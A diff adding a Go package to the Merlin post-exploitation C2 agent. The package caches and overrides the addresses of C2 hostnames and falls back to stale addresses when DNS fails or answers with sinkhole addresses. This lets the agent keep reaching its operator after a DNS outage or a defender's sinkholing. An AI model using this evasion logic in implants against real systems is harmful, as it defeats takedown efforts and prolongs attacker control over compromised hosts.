@@ -0,0 +1,222 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package resolve caches the addresses the C2 hostnames resolve to so that a short DNS outage or a sinkholed response
+// doesn't strand the Agent, lets the operator override them, and reports when they change
+package resolve
+
+import (
+	// Standard
+	"context"
+	"fmt"
+	"net"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+)
+
+// Change is a hostname that resolved to a different set of addresses than it did before
+type Change struct {
+	Time time.Time // Time is when the change was observed, in UTC
+	Host string    // Host is the hostname that was resolved
+	Old  []string  // Old are the addresses the hostname resolved to before
+	New  []string  // New are the addresses the hostname resolves to now
+}
+
+// String returns the change as a message for the operator
+func (c Change) String() string {
+	return fmt.Sprintf("DNS change at %s: %s resolved to %s and now resolves to %s", c.Time.Format(time.RFC3339), c.Host, strings.Join(c.Old, ", "), strings.Join(c.New, ", "))
+}
+
+// entry is a hostname's cached addresses
+type entry struct {
+	addresses []string  // addresses are the hostname's last good addresses, sorted
+	resolved  time.Time // resolved is when the addresses were last looked up
+}
+
+// ttl is how long the cached addresses are used before they are looked up again; 0 disables the cache
+var ttl time.Duration
+
+// overrides are the addresses the operator set for a hostname, which are used instead of looking it up
+var overrides = make(map[string][]string)
+
+// cache are the resolved addresses keyed by lower case hostname
+var cache = make(map[string]entry)
+
+// changes holds the changes until they are reported; changes are dropped when it is full
+var changes = make(chan Change, 16)
+
+// mu protects the ttl, overrides, and cache from concurrent access
+var mu sync.Mutex
+
+// SetTTL parses and sets how long the cached addresses are used before they are looked up again (e.g., 10m).
+// An empty string or 0 disables the cache
+func SetTTL(value string) error {
+	value = strings.TrimSpace(value)
+	var d time.Duration
+	if value != "" && value != "0" {
+		var err error
+		d, err = time.ParseDuration(value)
+		if err != nil {
+			return fmt.Errorf("clients/resolve.SetTTL(): there was an error parsing the DNS cache TTL %s: %s", value, err)
+		}
+		if d < 0 {
+			return fmt.Errorf("clients/resolve.SetTTL(): the DNS cache TTL must be 0 or greater")
+		}
+	}
+	mu.Lock()
+	ttl = d
+	mu.Unlock()
+	return nil
+}
+
+// SetOverrides parses and sets a semicolon separated list of host=address[,address] overrides
+// (e.g., c2.example.com=203.0.113.10,203.0.113.11). An empty string removes the overrides
+func SetOverrides(value string) error {
+	o := make(map[string][]string)
+	for _, override := range strings.Split(value, ";") {
+		override = strings.TrimSpace(override)
+		if override == "" {
+			continue
+		}
+		host, addresses, found := strings.Cut(override, "=")
+		if !found {
+			return fmt.Errorf("clients/resolve.SetOverrides(): the override %s is not in host=address format", override)
+		}
+		host = strings.ToLower(strings.TrimSpace(host))
+		for _, address := range strings.Split(addresses, ",") {
+			address = strings.TrimSpace(address)
+			if net.ParseIP(address) == nil {
+				return fmt.Errorf("clients/resolve.SetOverrides(): %s is not an IP address", address)
+			}
+			o[host] = append(o[host], address)
+		}
+	}
+	mu.Lock()
+	overrides = o
+	mu.Unlock()
+	return nil
+}
+
+// Enabled returns true if the cache or overrides are used to resolve hostnames
+func Enabled() bool {
+	mu.Lock()
+	defer mu.Unlock()
+	return ttl > 0 || len(overrides) > 0
+}
+
+// Changes returns the channel the changes to the resolved addresses are sent on
+func Changes() <-chan Change {
+	return changes
+}
+
+// Lookup returns the hostname's addresses from the operator's overrides, the cache, or DNS. When the lookup fails or
+// every address it returns is sinkholed, the last good addresses are used no matter how old they are, and a change in
+// the addresses is reported
+func Lookup(ctx context.Context, host string) ([]string, error) {
+	if net.ParseIP(host) != nil {
+		return []string{host}, nil
+	}
+	key := strings.ToLower(host)
+
+	mu.Lock()
+	if addresses, ok := overrides[key]; ok {
+		mu.Unlock()
+		return addresses, nil
+	}
+	cached, ok := cache[key]
+	if ok && time.Since(cached.resolved) < ttl {
+		mu.Unlock()
+		return cached.addresses, nil
+	}
+	mu.Unlock()
+
+	addresses, err := net.DefaultResolver.LookupHost(ctx, host)
+	// Only a hostname that has resolved to good addresses before can be sinkholed
+	if err == nil && ok {
+		addresses = valid(addresses)
+		if len(addresses) == 0 {
+			err = fmt.Errorf("every address %s resolved to is sinkholed", host)
+		}
+	}
+	if err != nil {
+		if ok {
+			cli.Message(cli.WARN, fmt.Sprintf("clients/resolve.Lookup(): %s, using the cached addresses from %s", err, cached.resolved.Format(time.RFC3339)))
+			return cached.addresses, nil
+		}
+		return nil, fmt.Errorf("clients/resolve.Lookup(): %s", err)
+	}
+
+	sort.Strings(addresses)
+	if ok && strings.Join(cached.addresses, ",") != strings.Join(addresses, ",") {
+		report(Change{Time: time.Now().UTC(), Host: host, Old: cached.addresses, New: addresses})
+	}
+	mu.Lock()
+	cache[key] = entry{addresses: addresses, resolved: time.Now()}
+	mu.Unlock()
+	return addresses, nil
+}
+
+// DialContext connects to the address, resolving its hostname with Lookup, and tries each of the addresses in turn
+func DialContext(ctx context.Context, network, address string) (net.Conn, error) {
+	host, port, err := net.SplitHostPort(address)
+	if err != nil {
+		return nil, fmt.Errorf("clients/resolve.DialContext(): %s", err)
+	}
+	addresses, err := Lookup(ctx, host)
+	if err != nil {
+		return nil, err
+	}
+	var dialer net.Dialer
+	for _, a := range addresses {
+		var conn net.Conn
+		conn, err = dialer.DialContext(ctx, network, net.JoinHostPort(a, port))
+		if err == nil {
+			return conn, nil
+		}
+	}
+	return nil, err
+}
+
+// valid returns the addresses that aren't sinkholed; a C2 server is never unspecified or loopback
+func valid(addresses []string) (good []string) {
+	for _, address := range addresses {
+		ip := net.ParseIP(address)
+		if ip == nil || ip.IsUnspecified() || ip.IsLoopback() {
+			continue
+		}
+		good = append(good, address)
+	}
+	return
+}
+
+// report sends the change to be reported to the operator without blocking
+func report(c Change) {
+	cli.Message(cli.NOTE, c.String())
+	select {
+	case changes <- c:
+	default:
+		cli.Message(cli.WARN, "clients/resolve.report(): too many DNS changes are waiting to be reported, dropping the change")
+	}
+}